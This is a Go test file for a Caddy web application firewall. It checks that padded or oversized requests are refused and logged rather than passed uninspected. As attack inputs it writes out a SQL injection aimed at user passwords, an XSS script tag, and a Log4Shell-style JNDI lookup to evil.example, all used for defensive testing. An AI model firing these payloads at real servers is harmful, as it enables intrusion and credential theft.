package waf

import (
	"bytes"
	"context"
	"fmt"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/caddyserver/caddy/v2"
	"github.com/caddyserver/caddy/v2/modules/caddyhttp"
	"go.uber.org/zap"
	"go.uber.org/zap/zaptest/observer"
)

// TestLimitsRefuseNotPass: past each limit where the WAF stops looking
// (the number of arguments in the query, a form or a JSON body, JSON
// depth, the parts of a multipart body, the headers), the request is
// refused, never handed on with the rest uninspected: 1000 harmless
// fields, then the attack.
func TestLimitsRefuseNotPass(t *testing.T) {
	tableOnly(t)
	base, hits := startCaddy(t, "waf")
	sqli := "1' UNION SELECT username, password FROM users--"
	xss := "<script>alert(1)</script>"

	var js, form, query strings.Builder
	js.WriteString("{")
	for i := range 1000 {
		fmt.Fprintf(&js, `"f%d":"x",`, i)
		fmt.Fprintf(&form, "f%d=x&", i)
		fmt.Fprintf(&query, "f%d=x&", i)
	}
	fmt.Fprintf(&js, `"q":%q}`, sqli)
	form.WriteString("q=" + url.QueryEscape(sqli))
	query.WriteString("q=" + url.QueryEscape(xss))

	// nested past the JSON depth limit (1024), the attack inside
	deep := strings.Repeat(`{"a":`, 1100) + fmt.Sprintf("%q", sqli) + strings.Repeat("}", 1100)

	var mp bytes.Buffer
	mw := multipart.NewWriter(&mp)
	for i := range 1000 {
		_ = mw.WriteField(fmt.Sprintf("f%d", i), "x")
	}
	_ = mw.WriteField("q", sqli)
	_ = mw.Close()

	headers := http.Header{}
	for i := range 1000 {
		headers.Set(fmt.Sprintf("X-Filler-%d", i), "x")
	}
	headers.Set("X-Api-Version", "${jndi:ldap://evil.example/a}")

	cookies := http.Header{}
	var cookie strings.Builder
	for i := range 1000 {
		fmt.Fprintf(&cookie, "c%d=x; ", i)
	}
	cookie.WriteString("q=" + url.QueryEscape(sqli))
	cookies.Set("Cookie", cookie.String())

	for _, p := range []probe{
		{name: "JSON: 1000 fields, then SQL injection", method: "POST", path: "/api", contentType: "application/json", body: js.String()},
		{name: "form: 1000 fields, then SQL injection", method: "POST", path: "/api", contentType: "application/x-www-form-urlencoded", body: form.String()},
		{name: "query: 1000 parameters, then XSS", method: "GET", path: "/search?" + query.String()},
		{name: "JSON nested 1100 deep, SQL injection inside", method: "POST", path: "/api", contentType: "application/json", body: deep},
		{name: "multipart: 1000 parts, then SQL injection", method: "POST", path: "/upload", contentType: mw.FormDataContentType(), body: mp.String()},
		{name: "1000 headers, then a jndi lookup", method: "GET", path: "/", header: headers},
		{name: "1000 cookies, then SQL injection", method: "GET", path: "/", header: cookies},
	} {
		before := *hits
		code, body := send(t, base, p)
		if code < 400 || code > 499 || *hits != before {
			t.Errorf("%s: %d %.200s (backend hits +%d), want it refused", p.name, code, body, *hits-before)
		}
	}
}

// capRequest is a request of q query parameters, c cookies and j JSON
// fields (each field's value JSON text of one leaf when inner, one more
// body argument each) and h header values to inspect (not plainly safe).
func capRequest(q, c, j, h int, inner bool) *http.Request {
	var query, cookie, body strings.Builder
	for i := range q {
		fmt.Fprintf(&query, "&q%d=lorem+ipsum", i)
	}
	for i := range c {
		fmt.Fprintf(&cookie, "c%d=loremipsum; ", i)
	}
	body.WriteString("{")
	for i := range j {
		if i > 0 {
			body.WriteString(",")
		}
		v := "lorem ipsum dolor"
		if inner {
			v = `{"a":"lorem ipsum dolor"}`
		}
		fmt.Fprintf(&body, `"f%d":%q`, i, v)
	}
	body.WriteString("}")
	path := "/api/items"
	if q > 0 {
		path += "?" + query.String()[1:]
	}
	req := httptest.NewRequest("POST", path, strings.NewReader(body.String()))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("User-Agent", "Mozilla/5.0 gateway-test")
	if c > 0 {
		req.Header.Set("Cookie", cookie.String())
	}
	for i := range h {
		req.Header.Set(fmt.Sprintf("X-Field-%03d", i), "lorem (ipsum) dolor")
	}
	return req
}

// TestTotalArgumentsCapped: max_arguments bounds each place (the query
// with the header values, the cookies, the body with the derived
// arguments), and twice it bounds all of them together: 100 query
// parameters, 100 cookies and 100 JSON fields (each place under 128, 300
// in all) are refused with 400 (rule 200018, logged with its id) at the
// cost of a refusal, before the CRS's phase 2; 256 in all pass, however
// they are spread; with max_arguments 32 the cap is 64; in mode detect
// the refusal is logged and the request passes.
func TestTotalArgumentsCapped(t *testing.T) {
	tableOnly(t)
	handler := func(block func(*WAF)) (*WAF, *observer.ObservedLogs) {
		ctx, cancel := caddy.NewContext(caddy.Context{Context: context.Background()})
		t.Cleanup(cancel)
		w := &WAF{}
		if block != nil {
			block(w)
		}
		if err := w.Provision(ctx); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = w.Cleanup() }) // lets its engine go (reload_test counts them)
		core, logs := observer.New(zap.DebugLevel)
		w.logger = zap.New(core)
		return w, logs
	}
	serve := func(w *WAF, req *http.Request) (int, bool, time.Duration) {
		passed := false
		rec := httptest.NewRecorder()
		start := cpuTime()
		err := w.ServeHTTP(rec, req, caddyhttp.HandlerFunc(func(http.ResponseWriter, *http.Request) error { passed = true; return nil }))
		spent := cpuTime() - start
		if err != nil {
			t.Fatal(err)
		}
		return rec.Code, passed, spent
	}
	const msg = "waf refused a request whose arguments in all places together (query, path, header and credential values, cookies, body, derived from values) are over twice max_arguments"
	capped := func(logs *observer.ObservedLogs) bool {
		for _, e := range logs.TakeAll() {
			if e.Message == msg && e.ContextMap()["rule_id"] == int64(200018) {
				return true
			}
		}
		return false
	}
	w, logs := handler(nil)
	margin := time.Duration(cpuMargin)
	for _, c := range []struct {
		name          string
		q, c, j, h    int
		inner, refuse bool
	}{
		{"100 query parameters, 100 cookies, 100 JSON fields", 100, 100, 100, 0, false, true},
		{"128 query parameters, 128 cookies", 128, 128, 0, 0, false, false},
		{"100 query parameters, 100 cookies, 56 JSON fields", 100, 100, 56, 0, false, false},
		{"100 query parameters, 100 cookies, 57 JSON fields", 100, 100, 57, 0, false, true},
		{"100 query parameters, 100 cookies, 28 fields of JSON text (56 body arguments)", 100, 100, 28, 0, true, false},
		{"100 query parameters, 100 cookies, 29 fields of JSON text (58 body arguments)", 100, 100, 29, 0, true, true},
		{"100 query parameters, 28 header values, 100 cookies, 28 JSON fields", 100, 100, 28, 28, false, false},
		{"100 query parameters, 28 header values, 100 cookies, 29 JSON fields", 100, 100, 29, 28, false, true},
	} {
		code, passed, spent := serve(w, capRequest(c.q, c.c, c.j, c.h, c.inner))
		t.Logf("%s: %d, %v of CPU", c.name, code, spent)
		switch {
		case c.refuse && (code != http.StatusBadRequest || passed || !capped(logs)):
			t.Errorf("%s: %d (passed %v), want 400 logged as rule 200018", c.name, code, passed)
		case c.refuse && spent > margin*refusedBound:
			t.Errorf("%s cost %v of CPU: inspected (want under %d × %v)", c.name, spent, margin, refusedBound)
		case !c.refuse && (code != http.StatusOK || !passed || capped(logs)):
			t.Errorf("%s: %d (passed %v), want it inspected and passed", c.name, code, passed)
		}
	}

	w, logs = handler(func(w *WAF) { w.MaxArguments = 32 })
	for _, c := range []struct {
		name    string
		q, c, j int
		refuse  bool
	}{
		{"32 query parameters, 32 cookies", 32, 32, 0, false},
		{"22 query parameters, 22 cookies, 20 JSON fields", 22, 22, 20, false},
		{"22 query parameters, 22 cookies, 21 JSON fields", 22, 22, 21, true},
	} {
		code, passed, _ := serve(w, capRequest(c.q, c.c, c.j, 0, false))
		if c.refuse != (code == http.StatusBadRequest && !passed && capped(logs)) || !c.refuse && code != http.StatusOK {
			t.Errorf("max_arguments 32, %s: %d (passed %v), want refused %v", c.name, code, passed, c.refuse)
		}
	}

	w, logs = handler(func(w *WAF) { w.Mode = "detect" })
	if code, passed, _ := serve(w, capRequest(100, 100, 100, 0, false)); code != http.StatusOK || !passed || !capped(logs) {
		t.Errorf("mode detect, 300 arguments: %d (passed %v), want it logged as rule 200018 and passed", code, passed)
	}
}
